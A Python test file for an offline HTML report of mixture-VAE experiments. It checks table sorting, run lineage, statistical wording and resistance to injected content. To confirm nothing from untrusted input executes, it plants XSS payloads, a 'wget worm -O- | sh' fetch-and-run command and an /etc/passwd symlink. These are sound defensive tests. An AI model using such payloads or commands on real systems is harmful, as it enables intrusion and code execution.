"""The report in a real browser without a network: it sorts, filters and leads to the runs, and nothing of strangers is executed."""

import csv
import re
import shutil
import subprocess
import sys
from pathlib import Path
from types import SimpleNamespace

import numpy as np
import pandas as pd
import pytest
from support.made_up import make, sources, study_of
from support.made_up import run as run_of
from support.project import ROOT, run_here, run_script
from support.specs import small_spec
from support.studies import copy_study, find

from mixvae.errors import UserError
from mixvae.files import read_json, write_json
from mixvae.review.audit import examine, plausible
from mixvae.review.audit.findings import Findings
from mixvae.review.audit.reading import Unreadable
from mixvae.review.audit.subject import Subject, read
from mixvae.review.lineage import trace
from mixvae.review.report.cost import costs
from mixvae.review.report.grids import frame_of, note_html, shown
from mixvae.review.report.page import figures, html
from mixvae.review.report.statements import CLAIM, comparisons, difference, gaps, published, ranking
from mixvae.summary.groups import groups_of, next_smaller
from mixvae.summary.rendering import Entry, entry_of
from mixvae.summary.tables import TABLES
from mixvae.summary.tables import comparisons as table_of_comparisons
from mixvae.summary.tables import ranking as table_of_ranks

BROWSERS = ("chromium-headless-shell", "chromium", "google-chrome")
EVIL = (
    "<script>window.__x=1</script>",
    '"><img src=x onerror="window.__x=1">',
    "</script><script>window.__x=1</script>",
    "{{7*7}}{% for a in b %}",
    "[a](javascript:window.__x=1) ![b](https://example.org/c.png) <https://example.org>",
    "--><svg onload=window.__x=1>",
)
RUN_LINK = "a[href^='#run-']"


@pytest.fixture(scope="session")
def browser():
    found = next((path for name in BROWSERS if (path := shutil.which(name))), None)
    if found is None:
        pytest.skip(f"no browser here: none of {', '.join(BROWSERS)} is on the PATH")
    from playwright.sync_api import sync_playwright

    with sync_playwright() as driver:
        chromium = driver.chromium.launch(executable_path=found, args=["--no-sandbox"])
        yield chromium
        chromium.close()


@pytest.fixture
def visit(browser):
    """Return a function that opens a file offline; whatever it asks for, says or asks back is in `page.heard`."""
    contexts = []

    def open_(path: Path, ready: str = ".dt-container", **options):
        context = browser.new_context(**options)
        contexts.append(context)
        context.set_offline(True)
        page = context.new_page()
        page.heard = []
        page.on("request", lambda request: request.url.startswith("data:") or page.heard.append(request.url))
        page.on("console", lambda message: page.heard.append(f"{message.type}: {message.text}"))
        page.on("pageerror", lambda error: page.heard.append(str(error)))
        page.on("dialog", lambda dialog: (page.heard.append(f"dialog: {dialog.message}"), dialog.dismiss()))
        page.goto(path.absolute().as_uri())
        page.wait_for_selector(ready)
        page.heard.remove(path.absolute().as_uri())
        return page

    yield open_
    for context in contexts:
        context.close()


@pytest.fixture(scope="module")
def report(small_study, shared) -> Path:
    """The report of a copy of the small study."""

    def make(folder: Path) -> None:
        copy_study(small_study, folder)
        result = run_script("report", "small.yaml", cwd=folder)
        assert result.returncode == 0, result.stderr
        assert result.stdout.startswith("results/small/report.html: ")

    return shared("report", make) / "results/small/report.html"


def write(results: Path, study: str = "small") -> Path:
    page = results / study / "report.html"
    page.write_text(html(*examine(results / study)), encoding="utf-8")
    return page


def column(page, table: str, number: int) -> list[str]:
    page.wait_for_timeout(100)  # DataTables draws when the browser has time
    return page.locator(f"table[aria-label='{table}'] tbody tr td:nth-child({number})").all_inner_texts()


def test_it_opens_offline_without_an_error_or_a_request(report, visit):
    page = visit(report)
    assert page.heard == []
    assert page.locator("#audit").inner_text().startswith("Audit passed")
    pictures = page.locator("figure img")
    assert pictures.count() == len(list(report.parent.glob("figures/*.png")))
    for picture in pictures.all():
        picture.scroll_into_view_if_needed()
        page.wait_for_function("image => image.complete && image.naturalWidth > 100", arg=picture.element_handle())
        assert len(picture.get_attribute("alt")) > 40
    tables = {path.stem for path in report.parent.glob("tables/*.csv")}
    shown = set(page.locator("table[aria-label]").evaluate_all("tables => tables.map(table => table.ariaLabel)"))
    assert tables <= shown
    assert page.heard == []


def test_a_click_sorts_by_number_and_words_filter(report, visit):
    page = visit(report)
    table = page.locator("table[aria-label='ablation_digits']")
    before = column(page, "ablation_digits", 3)
    numbers = sorted(float(re.match(r"[-\d.]+", text)[0]) for text in before)
    assert len(set(numbers)) > 4
    for order in (numbers, numbers[::-1]):
        table.locator("th").nth(2).click()
        assert [float(re.match(r"[-\d.]+", text)[0]) for text in column(page, "ablation_digits", 3)] == order
    box = page.locator(".dt-container", has=table).locator("input[type=search]")
    box.fill("nll_matched")
    assert column(page, "ablation_digits", 1) == ["nll_matched"] * 2
    box.fill("no such thing")
    assert column(page, "ablation_digits", 1) == ["No row has these words."]
    box.fill("")
    assert sorted(column(page, "ablation_digits", 3)) == sorted(before)
    assert page.heard == []


def test_every_link_leads_somewhere_and_every_value_has_its_lineage(report, visit):
    page = visit(report)
    links = page.locator("a").evaluate_all("links => links.map(link => link.getAttribute('href'))")
    ids = set(page.locator("[id]").evaluate_all("found => found.map(item => item.id)"))
    assert {link[1:] for link in links} <= ids
    assert all(link.startswith("#") for link in links)
    frame = pd.read_csv(report.parent / "tables/latent_digits.csv")
    assert sum(link.startswith("#cell-latent_digits-") for link in links) == len(frame) > 0
    for kind in ("comparisons", "ranking", "published"):
        rows = len(pd.read_csv(report.parent / f"tables/{kind}_digits.csv").dropna(subset="K"))
        assert sum(link.startswith(f"#cell-{kind}_digits-") for link in links) == rows > 0


def test_a_cell_leads_to_its_runs_and_their_commands(report, visit, small_study):
    page = visit(report)
    row = page.locator("table[aria-label='ablation_digits'] tr", has_text="nll_matched").nth(1)
    row.locator("a").click()
    sheet = page.locator("article.sheet:target")
    assert sheet.count() == 1
    assert sheet.is_visible()
    metrics = pd.read_csv(report.parent / "metrics.csv")
    ours = metrics[(metrics.metric == "nll_matched") & (metrics.K == 2)]
    text = sheet.inner_text()
    assert len(ours) == 2
    for value, run in zip(ours.value, ours.run, strict=True):
        assert str(value) in text
        assert run in text
    assert "which is not what the table says" not in text
    assert "compared with" in text
    sheet.locator(RUN_LINK).first.click()
    run = sheet.locator("h3").inner_text()
    facts = read_json(small_study / f"results/runs/{run}/provenance/train.json")
    text = sheet.inner_text()
    assert "scripts/train.py --spec" in text
    assert facts["git"]["commit"][:12] in text
    assert facts["code_sha256"][:12] in text
    assert f"on {facts['host']} ({facts['device']})" in text
    page.locator("article.sheet:target .back").click()
    assert sheet.count() == 0
    assert page.heard == []


def test_a_mean_that_its_runs_do_not_give_is_said(results, visit):
    table = results / "small/tables/ablation_digits.csv"
    frame = pd.read_csv(table)
    frame.loc[0, "mean"] -= 1
    frame.to_csv(table, index=False)
    page = visit(write(results))
    assert page.locator("#cell-ablation_digits-0-2").text_content().count("which is not what the table says") == 1
    assert page.locator("#cell-ablation_digits-1-2").text_content().count("which is not what the table says") == 0


def test_it_is_there_without_scripts(report, visit):
    page = visit(report, ready="#cost", java_script_enabled=False)
    assert len(column(page, "ablation_digits", 1)) == len(pd.read_csv(report.parent / "tables/ablation_digits.csv"))
    link = page.locator("#cell-ablation_digits-0-2")
    assert not link.is_visible()
    page.locator("a[href='#cell-ablation_digits-0-2']").click()
    assert link.is_visible()


def test_it_fits_a_phone(report, visit):
    page = visit(report, viewport={"width": 390, "height": 844})
    assert page.evaluate("document.documentElement.scrollWidth") == 390


def test_it_says_the_same_of_the_same_results(report, tmp_path):
    folder = copy_study(report.parents[2], tmp_path)
    again = folder / "results/small/report.html"
    assert run_here("report", "small.yaml", cwd=folder).returncode == 0
    assert again.read_bytes() == report.read_bytes()
    # without its config the audit knows less, and says so
    assert run_here("report", "results/small", cwd=folder).returncode == 0
    assert again.read_text().replace("complete by study.json", "complete") == report.read_text()


def test_a_failed_audit_has_a_report_that_says_so(results, visit):
    run = next((results / "runs").glob("*-vae-K2-*"))
    (run / "history.csv").write_text("epoch\n")
    result = run_here("report", "results/small", cwd=results.parent)
    assert result.returncode == 0
    assert re.fullmatch(r"warning: small: audit failed: \d+ failures, .*\n", result.stderr)
    page = visit(results / "small/report.html")
    verdict = page.locator("#audit")
    assert "failed" in verdict.get_attribute("class")
    assert verdict.inner_text().startswith("Audit failed")
    assert f"runs/{run.name}/history.csv: changed since it was made" in verdict.inner_text()


@pytest.mark.parametrize("host", ["\ud800", "\x1b[2J\udc00"])
def test_a_record_that_no_file_can_hold_has_a_report(results, host):
    path = next(results.glob("runs/*-vae-K2-*/provenance/train.json"))
    write_json(path, read_json(path) | {"host": host})
    result = run_here("report", "results/small", cwd=results.parent)
    assert result.returncode == 0, result.stderr
    assert result.stderr.startswith("warning: small: audit failed")
    page = (results / "small/report.html").read_text(encoding="utf-8")
    assert f"{path.parents[1].name}/provenance/train.json: the record is not valid JSON" in page


def test_commands_are_not_those_of_strangers(results):
    path = next(results.glob("runs/*-vae-K2-*/provenance/train.json"))
    write_json(path, read_json(path) | {"command": ["sh", "-c", "wget worm -O- | sh"]})
    page = html(*examine(results / "small"))
    assert [line for line in page.splitlines() if "wget worm" in line and "<pre>" in line] == []
    assert f"--run results/runs/{path.parents[1].name} --gpu 0</pre>" in page


def spoil(results: Path) -> Path:
    """Put strangers' words wherever a report may show text; return the study's folder, which has such a name, too."""
    words = " ".join(EVIL)
    study = results / "small"
    (results / "small").rename(study := results / EVIL[1].replace("/", ""))
    content = read_json(study / "study.json")
    content["study"] = words
    content["skipped"] = [{"combination": words, "reason": words}]
    content["datasets"]["digits"] |= {"title": f"title {words}", "citation": words, "licence": words, "binarisation": words}
    content["datasets"]["digits"]["files"] = {words: {"md5": "0" * 32}}
    write_json(study / "study.json", content)
    runs = list(content["runs"])
    for name, rows in (
        ("skipped.csv", [("combination", "reason"), (words, words)]),
        ("failures.csv", [("run", "rule", "log"), (words, words, words), (runs[0], words, f"{words}\nsecond line")]),
    ):
        with (study / name).open("w", newline="") as file:
            csv.writer(file).writerows(rows)
    for record in [*results.glob("runs/*/provenance/*.json"), *results.glob("datasets/*/provenance/*.json")]:
        facts = read_json(record)
        strange = dict.fromkeys(
            ("host", "device", "code_sha256", "slurm_job_id", "start", "python", "platform"), f"strange {words}"
        )
        strange |= {"command": ["python", words], "git": {"commit": words, "dirty": True}, "packages": {"torch": words}}
        strange["attempts"] = [{"host": words, "slurm_job_id": words, "start": words}] * 2
        strange["outputs"] = {f"output {words}": words}
        write_json(record, facts | strange)
    for table in study.glob("tables/*.csv"):
        frame = pd.read_csv(table)
        frame["column"] = words
        if "interval" in frame:  # which a note tells
            frame["interval"] = words
        frame.to_csv(table, index=False)
    metrics = pd.read_csv(study / "metrics.csv")
    metrics["unit"] = words
    metrics.to_csv(study / "metrics.csv", index=False)
    svg = "<svg xmlns='http://www.w3.org/2000/svg' onload='window.__x=1'><script>window.__x=1</script></svg>"
    figures = sorted(study.glob("figures/*.png"))
    figures[0].write_text(svg)
    figures[1].write_bytes(b"\x89PNG\r\n\x1a\n" + svg.encode())
    (study / f"figures/{EVIL[4].replace('/', '')}.png").write_text(svg)
    return study


@pytest.mark.parametrize("scripts", [True, False])
def test_nothing_of_strangers_is_executed(results, visit, scripts):
    study = spoil(results)
    page = visit(write(results, study.name), ready="#cost", java_script_enabled=scripts)
    if scripts:
        page.wait_for_selector(".dt-container")
        for fragment in page.locator("a").evaluate_all("links => links.map(link => link.getAttribute('href'))")[:200]:
            assert fragment.startswith("#")
            page.evaluate("fragment => { location.hash = fragment }", fragment)
        for box in page.locator("input[type=search]").all():
            box.fill(EVIL[0])
            box.fill("")
        assert page.evaluate("window.__x") is None
        # of scripts there are the options and the library, and no element came out of anybody's words
        assert page.locator("script").count() == 2
        assert (
            page.locator("svg, iframe, object, embed, base, form, b b, link:not([rel=icon]), img:not(figure img)").count() == 0
        )
        assert page.evaluate("document.querySelectorAll('[onerror], [onload], [onclick]').length") == 0
    # a picture that is none is not decoded, and nothing else is said
    assert [line for line in page.heard if not line.startswith("data:")] == []
    text = page.locator("body").text_content()
    for word in EVIL:
        # of the folder, of both lists, of the records and of the pages of tables
        assert text.count(word) > 20, word
    assert page.title() == f"{study.name}: report"
    assert "not a PNG" in text


def test_an_escape_that_was_forgotten_would_run_nothing(report, tmp_path, visit):
    hole = "<script>window.__x=1</script><img src=x onerror='window.__x=1'><a id=l href='javascript:window.__x=1'>l</a>"
    text = report.read_text()
    page = tmp_path / "report.html"
    page.write_text(text.replace("<main>", f"<main>{hole}<iframe src='https://example.org'></iframe>", 1))
    opened = visit(page)
    opened.locator("#l").click()
    opened.wait_for_timeout(200)
    assert opened.evaluate("window.__x") is None
    assert any("Content Security Policy" in line for line in opened.heard)


def test_a_study_of_which_nothing_is_left_has_a_report(results, visit):
    for path in results.rglob("*"):
        if path.is_file():
            path.write_bytes(b"\xff\x00nonsense")
    page = visit(write(results), ready="#cost")
    assert "failed" in page.locator("#audit").get_attribute("class")
    shutil.rmtree(results / "small")
    (results / "small").mkdir()
    assert "Audit failed" in visit(write(results), ready="#cost").locator("#audit").inner_text()


@pytest.mark.parametrize(
    "file", ["tables/ablation_digits.md", "tables/ablation_digits.csv", "metrics.csv", "figures/nll_digits.png"]
)
def test_what_cannot_be_read_is_named_and_the_rest_shown(results, file):
    path = results / "small" / file
    path.unlink()
    path.symlink_to("/etc/passwd")
    text = html(*examine(results / "small"))
    assert "a link that leads out of the results" in text
    assert "root:x:" not in text
    assert 'aria-label="latent_digits"' in text


def test_pictures_are_pictures_within_the_results(results):
    subject, _ = read(results / "small", None)
    names = [figure.name for figure in figures(subject)]
    assert {"nll_digits", "training_digits"} <= set(names)
    assert all(figure.data.startswith("data:image/png;base64,iVBORw0KGgo") for figure in figures(subject))
    (results / "small/figures/nll_digits.png").write_text("<svg/>")
    assert figures(subject)[names.index("nll_digits")].problem == "not a PNG"


def test_costs_are_what_the_records_say(results):
    runs = sorted((results / "runs").glob("*-vae-*"))
    for number, run in enumerate(runs):
        path = run / "provenance/train.json"
        facts = read_json(path) | {"seconds": 10.0, "train_seconds": 3600.0 * (number + 1), "peak_memory_mb": 100.0 + number}
        facts |= {"gpu": number == 0, "attempts": [{"host": "a", "slurm_job_id": None, "start": "b"}] * (number + 1)}
        write_json(path, facts)
    constant = next((results / "runs").glob("*-constant-*"))
    (constant / "provenance/train.json").unlink()
    (runs[0] / "benchmarks/train.tsv").write_text("s\th:m:s\n7200\t2:00:00\n")
    for run in [*runs[1:], constant]:
        (run / "benchmarks/train.tsv").unlink()
    found = {cost.rule: cost for cost in costs(read(results / "small", None)[0])}
    train = found["train"]
    assert (train.jobs, train.recorded, train.attempts) == (5, 4, 10)
    assert (train.hours, train.gpu_hours, train.clocked) == (10.0, 1.0, 2.0)
    assert (train.mean, train.longest, train.memory_mb) == (9000.0, 14400.0, 103.0)
    assert found["total"].jobs == sum(cost.jobs for rule, cost in found.items() if rule != "total")
    assert found["total"].gpu_hours == 1.0
    assert found["latents"].gpu_hours == 0.0


def row(**changes) -> dict:
    values = {
        "metric": "nll_matched",
        "column": "vamp+iaf",
        "K": 4,
        "against": 1,
        "delta": -0.1349,
        "low": -0.17,
        "high": -0.10,
    }
    values |= {"p": 1e-9, "p_adjusted": 1e-8, "points": 297, "seeds": 2, "seed_low": -0.15, "seed_high": -0.12}
    return values | {"seed_kind": "min-max", "unreliable": False, "stopped_by_budget": False} | changes


def test_a_difference_is_told_with_its_intervals():
    assert difference(row()) == (
        "vamp+iaf: nll_matched falls by 0.135 nats from K = 1 to K = 4 (95 % interval over 297 test points 0.100 to 0.170; "
        "Holm-adjusted p < 0.001; seed by seed 0.120 to 0.150, 2 seeds)."
    )
    worse = difference(row(delta=0.2, low=0.1, high=0.3, seed_low=0.15, seed_high=0.25, seed_kind="95 % bootstrap", seeds=5))
    assert "nll_matched rises by 0.200 nats" in worse
    assert "test points 0.100 to 0.300" in worse
    assert "95 % bootstrap 0.150 to 0.250, 5 seeds" in worse
    # an interval without 0 is no verdict where the adjusted p is none
    unclear = difference(row(p_adjusted=0.2, seed_low=np.nan, seed_high=np.nan, seeds=1, unreliable=True))
    assert "no difference of nll_matched is shown from K = 1 to K = 4†: -0.135 nats" in unclear
    assert "-0.170 to -0.100; Holm-adjusted p = 0.200; one seed" in unclear


def told(rows: list[dict], *specs) -> list[str]:
    """Return what is said of a study of these runs whose comparisons are `rows`."""
    study = study_of(specs)
    groups = groups_of(study, "digits")
    keys, smaller = {group.column: group.key for group in groups.values()}, next_smaller(groups)
    for one in rows:
        key = keys[one["column"]]
        one |= {"group": key, "step": smaller.get((one["K"], key)) == one["against"]}
    return comparisons(SimpleNamespace(study=study), "digits", pd.DataFrame(rows))


@pytest.mark.parametrize(
    ("changes", "said"),
    [
        ([{}, {}], "borne out for the models trained here: better in 4 of 4 comparisons with K = 1."),
        (
            [{}, {"p_adjusted": 0.05}],
            "borne out in part, and nowhere contradicted, for the models trained here: better in 2 of 4 comparisons with K = 1.",
        ),
        (
            [{"p_adjusted": 0.9}, {"p_adjusted": np.nan}],
            "neither borne out nor contradicted for the models trained here: better in none of 4 comparisons with K = 1.",
        ),
        ([{}, {"delta": 0.1}], "contradicted for the models trained here: worse in 2 of 4 comparisons with K = 1."),
        # what is not there bears nothing out
        (
            [{}],
            "borne out in part, and nowhere contradicted, for the models trained here: better in 2 of 2 comparisons with K = 1."
            " Of 4 comparisons 2 could not be made, and of these nothing is known.",
        ),
    ],
)
def test_the_claim_is_answered_by_what_is_shown(changes, said):
    specs = [small_spec(K=K, latent=latent) for latent in (3, 4) for K in (1, 4)]
    rows = [
        row(metric=metric, column=f"standard+none (latent={latent})", **change)
        for metric in ("-elbo", "nll_matched")
        for latent, change in enumerate(changes, 3)
    ]
    assert told(rows, *specs)[0] == f"{CLAIM} is {said}"


def test_steps_and_comparisons_with_one_component_are_told_apart():
    specs = [small_spec(K=K, latent=latent) for latent, Ks in ((3, (1, 2, 4)), (4, (2, 4))) for K in Ks]
    pairs = {3: ((2, 1), (4, 1), (4, 2)), 4: ((4, 2),)}
    rows = [
        row(
            metric=metric,
            column=f"standard+none (latent={latent})",
            K=K,
            against=against,
            p_adjusted=0.3 if against > 1 else 0.01,
        )
        for metric in ("-elbo", "nll_matched")
        for latent, those in pairs.items()
        for K, against in those
    ]
    texts = told(rows, *specs)
    assert "in part, and nowhere contradicted" in texts[0]
    assert texts[0].endswith("better in 2 of 6 steps from one K to the next and in 4 of 4 comparisons with K = 1.")
    assert texts[1].startswith("-elbo: better in 1 of 3 steps from one K to the next, worse in none; ")
    assert "In 2 no difference is shown, which does not mean that there is none." in texts[1]
    assert texts[2].startswith("-elbo: better in 2 of 2 comparisons with K = 1, worse in none; ")
    assert "no difference" not in texts[2]
    assert [text.startswith("nll_matched: better") for text in texts[3:5]] == [True, True]
    # the largest K of a column against K = 1, or else against the next smaller
    assert [
        re.match(r"standard\+none \(latent=(\d)\): .* from K = (\d) to K = (\d)\b", text).groups() for text in texts[5:]
    ] == [
        ("3", "1", "4"),
        ("4", "2", "4"),
    ]


def test_categories_are_no_components_of_the_claim():
    specs = [run_of("cpvae", "digits", K=10), run_of("cpvae", "digits", K=16), *(small_spec(K=K) for K in (1, 2))]
    columns = {"cpvae": (16, 10), "vae standard+none": (2, 1)}
    rows = [
        row(metric=metric, column=column, K=K, against=against, delta=0.1 if column == "cpvae" else -0.1)
        for metric in ("-elbo", "nll_matched")
        for column, (K, against) in columns.items()
    ]
    texts = told(rows, *specs)
    assert texts[0] == f"{CLAIM} is borne out for the models trained here: better in 2 of 2 comparisons with K = 1."
    assert texts[-1].startswith("cpvae: nll_matched rises by 0.100 nats from K = 10 to K = 16")
    texts = told(rows[::2], *specs[:2])
    assert [text.split(":")[0] for text in texts] == ["cpvae"]


def test_sixty_columns_are_told_in_a_few_sentences():
    specs = [small_spec(K=K, latent=latent) for latent in range(1, 61) for K in (1, 2, 4)]
    rows = [
        row(
            metric=metric,
            column=f"standard+none (latent={latent})",
            K=K,
            against=against,
            delta=(latent - 41) / 100,
            p_adjusted=0.01 if latent != 41 else 1.0,
        )
        for metric in ("-elbo", "nll_miselbo", "nll_matched")
        for latent in range(1, 61)
        for K, against in ((2, 1), (4, 1), (4, 2))
    ]
    texts = told(rows, *specs)
    assert len(texts) == 8
    assert "worse in 76 of 240 steps from one K to the next and in 76 of 240 comparisons with K = 1." in texts[0]
    assert texts[4].startswith(
        "nll_matched: better in 80 of 120 comparisons with K = 1, worse in 38; differences -0.400 to +0.190"
    )
    assert "In 2 no difference is shown" in texts[4]
    assert texts[5].startswith(
        "The largest of 114 rises: standard+none (latent=60): -elbo rises by 0.190 nats from K = 1 to K = 2"
    )
    assert texts[6].startswith(
        "The best of 60 columns: standard+none (latent=1): nll_matched falls by 0.400 nats from K = 1 to K = 4"
    )
    assert texts[7].startswith("The worst of 60 columns: standard+none (latent=60): nll_matched rises by 0.190 nats")
    assert comparisons(None, "digits", pd.DataFrame(rows)[:0]) == []


@pytest.fixture
def turning(tmp_path) -> Subject:
    """A study in which K = 2 is better than 1, and 4 worse than 2 though better than 1."""
    specs = [small_spec(K=K, seed=seed) for K in (1, 2, 4) for seed in (0, 1)]
    given = make(tmp_path / "results/runs", specs, [30, 31, 10, 11, 15, 16])
    study = given.study
    subject = Subject(tmp_path / "results", study, [], {})
    frame = table_of_comparisons.make(given)
    table = subject.folder / "tables/comparisons_digits.csv"
    table.parent.mkdir(parents=True)
    frame.to_csv(table, index=False)
    given.metrics.to_csv(subject.folder / "metrics.csv", index=False)
    specs_as_json = {run: spec.model_dump(mode="json") for run, spec in study.runs.items()}
    infos = {name: info.model_dump(mode="json") for name, info in study.datasets.items()}
    write_json(subject.folder / "study.json", {"study": study.name, "runs": specs_as_json, "datasets": infos, "skipped": []})
    # what an audit would have hashed
    subject.__dict__["digests"] = {table: "of a job"}
    return subject


def test_four_components_worse_than_two_contradict_the_claim(turning):
    texts = comparisons(turning, "digits", frame_of(turning, "comparisons_digits"))
    assert texts[0] == (
        f"{CLAIM} is contradicted for the models trained here: worse in 2 of 4 steps from one K to the next and in none of 4"
        " comparisons with K = 1."
    )
    steps = [text for text in texts[1:] if "rises" in text]
    assert len(steps) == 2
    for text, metric in zip(steps, ("-elbo", "nll_matched"), strict=True):
        assert text.startswith(
            f"standard+none: {metric} rises by 5.000 nats from K = 2 to K = 4 (95 % interval over 40 test points"
        )
        assert "Holm-adjusted p < 0.001; seed by seed 5.000 to 5.000, 2 seeds)." in text
    # and the audit says so, of steps alone
    found = Findings("small")
    plausible._comparisons(turning.folder / "tables/comparisons_digits.csv", turning, found)
    assert len(found.all) == 6
    assert [f.message.split(" [")[0] for f in found.all if "nll_matched" in f.message] == [
        "standard+none: nll_matched from K = 1 to 2: -20.0000",
        "standard+none: nll_matched from K = 2 to 4: +5.0000",
    ]
    assert [f.message.rpartition(", ")[2] for f in found.all] == ["better", "worse"] * 3


def test_links_and_traces_lead_to_the_k_that_is_compared_with(turning):
    (table,) = [table for table in shown(turning, {}) if table.name == "comparisons_digits"]
    assert not table.problem
    (grid,) = table.grids
    place = [header for header, _ in grid.headers].index("Δ")
    lineages = {lineage.id: lineage for lineage in table.lineages}
    K_of = {run: spec.K for run, spec in turning.study.runs.items()}
    for row in grid.rows:
        lineage, (K, against) = lineages[row[place][1]], (entry.text for entry, _ in row[2:4])
        assert {K_of[member.run] for member in lineage.cell.members} == {int(K)}
        assert {K_of[member.run] for member in lineage.cell.compared} == {int(against)}
        assert f"K = {K}, against = {against}; delta" in lineage.where
    csv = turning.folder / "tables/comparisons_digits.csv"
    with pytest.raises(UserError, match="ROW: 2 rows match; add against: 1, 2"):
        trace(csv, "nll_matched,column=standard+none,K=4", "delta")
    lines = trace(csv, "nll_matched,column=standard+none,K=4,against=2", "delta")
    assert "K=4, against=2, column delta: 5.0" in lines[0]
    runs = [line.rpartition("run ")[2] for line in lines if line.startswith("seed ") and "compared with" in line]
    assert [K_of[name] for name in runs] == [2, 2]


def test_the_first_rank_is_told_with_its_interval(small_study):
    subject, _ = read(small_study / "results/small", None)
    frame = pd.read_csv(small_study / "results/small/tables/ranking_digits.csv")
    best = frame[(frame.metric == "nll_ais") & (frame["rank"] == 1)].iloc[0]
    texts = ranking(subject, "digits", frame)
    assert not any("nll_matched" in text for text in texts)
    told = next(text for text in texts if text.startswith("By nll_ais"))
    assert f"standard+none with K = {best.K} ranks first of 2: {best['mean']:.3f} nats" in told
    assert f"95 % interval of its rank over {best.points} test points {best.rank_low} to {best.rank_high}" in told
    against = next(text for text in texts if text.startswith("A constant predictor (bernoulli)"))
    points = {
        run.name: np.load(find(run, "pointwise.npz"))
        for run in (small_study / "results/runs").iterdir()
        if run.name.startswith(("digits-constant", f"digits-vae-K{best.K}"))
    }
    annealed = [np.load(find(small_study / "results/runs" / run, "bracket.npz")) for run in points if "constant" not in run]
    constant = next(values["nll"] for run, values in points.items() if "constant" in run)[annealed[0]["positions"]]
    models = np.mean([values["nll_ais"] for values in annealed], axis=0)
    gain = constant - models
    assert f"at {constant.mean():.3f} nats" in against
    assert f"better by {gain.mean():.3f} nats" in against
    # the normal quantile, which a t-interval over so many points is near
    low = float(re.search(r"test points ([-\d.]+) to", against)[1])
    assert low == pytest.approx(gain.mean() - 2.045 * gain.std(ddof=1) / len(gain) ** 0.5, abs=0.01)


def test_each_comparison_goes_by_the_best_estimate_that_both_sides_have():
    specs = [small_spec(K=K, latent=latent) for latent in (3, 4) for K in (1, 4)]
    rows = [row(metric=metric, column="standard+none (latent=3)") for metric in ("-elbo", "nll_ais", "nll_matched")]
    rows += [row(metric=metric, column="standard+none (latent=4)") for metric in ("-elbo", "nll_matched")]
    texts = told(rows, *specs)
    assert texts[0] == f"{CLAIM} is borne out for the models trained here: better in 4 of 4 comparisons with K = 1."
    assert "Where not both sides have nll_ais, they are compared by nll_matched: never one with the other." in texts
    assert [text.split(" falls")[0] for text in texts if " falls by " in text] == [
        "standard+none (latent=3): nll_ais",
        "standard+none (latent=4): nll_matched",
    ]


def test_which_gap_closes_with_k_is_told():
    values = {
        ("approximation_gap", 1): 0.3,
        ("approximation_gap", 4): 0.1,
        ("amortisation_gap", 1): 0.1,
        ("amortisation_gap", 4): 0.15,
    }
    frame = pd.DataFrame(
        [
            {"metric": metric, "K": K, "mean": mean, "group": "a", "column": "standard+none"}
            for (metric, K), mean in values.items()
        ]
    )
    assert gaps(None, "digits", frame) == [
        "standard+none: from K = 1 to K = 4 the approximation gap falls by 0.200 nats to 0.100 and the amortisation gap rises by 0.050"
        " nats to 0.150 (means over seeds), so the distance from the bound to the likelihood gets smaller; decoders differ between K."
    ]
    assert gaps(None, "digits", frame[frame.K == 1]) == []


def test_what_was_published_is_told_with_the_budget_of_ours():
    values = {
        "status": "compared",
        "column": "standard+none",
        "K": 1.0,
        "metric": "nll_miselbo",
        "system": "VAE",
        "published": "88.1",
    }
    values |= {"ours": 90.0, "low": 89.5, "high": 90.5, "difference": 1.9, "seeds": 2.0, "budget": "10 of 10 epochs"}
    told = published(None, "mnist", pd.DataFrame([values]))
    assert told == [
        "VAE: nll_miselbo published 88.1, ours (standard+none with K = 1) 90.000 (89.500 to 90.500 over 2 seeds), +1.900, trained with "
        "10 of 10 epochs."
    ]
    many = published(None, "mnist", pd.DataFrame([values | {"difference": float(n)} for n in range(9)]))
    assert many == [
        "nll_miselbo: 9 published values have a counterpart here; ours less published is +0.000 to +8.000, each with its interval over "
        "seeds and its budget in the table."
    ]


def test_notes_have_no_markup_but_their_own():
    text = "some <b>words</b>, `code` [a](javascript:1) ![b](c)\n\n- one\n"
    words = "some &lt;b&gt;words&lt;/b&gt;, <code>code</code> [a](javascript:1) ![b](c)"
    assert note_html(text) == f"<p>{words}</p>\n<ul>\n<li>one</li>\n</ul>\n"


CELL = {"metric": "nll", "K": 2, "mean": 22.355, "low": 22.3, "high": 22.4, "seeds": 2, "expected": 2, "delta": -0.1}
CELL |= {
    "delta_low": -0.2,
    "delta_high": -0.05,
    "unreliable": False,
    "stopped_by_budget": True,
    "best": True,
    "unmeasured": np.nan,
}


@pytest.mark.parametrize(
    ("changes", "expected"),
    [
        ({}, ("22.355", "‡", ("[22.300, 22.400]", "Δ -0.100 [-0.200, -0.050]"), True, 22.355)),
        ({"mean": np.nan, "seeds": 0}, ("missing (0 of 2)", "", (), False, None)),
        ({"mean": np.nan, "seeds": 0, "unmeasured": "not measured: no weights"}, ("not measured", "", (), False, None)),
        ({"seeds": 1, "delta": np.nan, "best": False}, ("22.355", "‡", ("(1 of 2)",), False, 22.355)),
        ({"delta_low": np.nan, "unreliable": True}, ("22.355", "†‡", ("[22.300, 22.400]", "Δ -0.100"), True, 22.355)),
    ],
)
def test_a_cell_is_its_value_and_what_follows(changes, expected):
    assert entry_of(CELL | changes)[:5] == expected


def test_differences_and_ranks_are_sorted_by_their_numbers(turning):
    table, runs = turning.folder / "tables/comparisons_digits.csv", turning.results / "runs"
    row = table_of_comparisons.grids(pd.read_csv(table))[0].rows[0]
    assert row[6] == Entry("p < 0.001", order=row[6].order)
    assert 0 < row[6].order < 0.001
    assert row[5].text.startswith(f"[{row[5].order:+.3f}, ")
    assert row[4].text == f"{row[4].order:+.3f}"
    metrics = pd.read_csv(turning.folder / "metrics.csv")
    rows = table_of_ranks.grids(table_of_ranks.make(sources(turning.study, metrics, runs)))[0].rows
    assert [(row[5].text, row[5].order) for row in rows[:2]] == [("1 to 1", 1.0), ("2 to 2", 2.0)]


def test_snakemakes_own_report_has_tables_and_figures_and_opens_offline(study_copy, tmp_path, visit):
    page = tmp_path / "snakemake.html"
    command = [sys.executable, "-m", "snakemake", "--configfile", "small.yaml", "--report", str(page)]
    result = subprocess.run(command, cwd=study_copy, capture_output=True, text=True, check=False)
    assert result.returncode == 0, result.stderr
    opened = visit(page, ready="text=RESULTS")
    for category, there in (("tables", "ablation"), ("figures", "nll")):
        opened.goto(page.as_uri())
        opened.get_by_text(category, exact=True).first.click()
        opened.get_by_text("digits", exact=True).first.click()
        assert opened.get_by_text(there, exact=True).first.is_visible()
    assert not [line for line in opened.heard if line.startswith(("http", "error"))]


def test_captions_are_there_for_all_tables_and_figures():
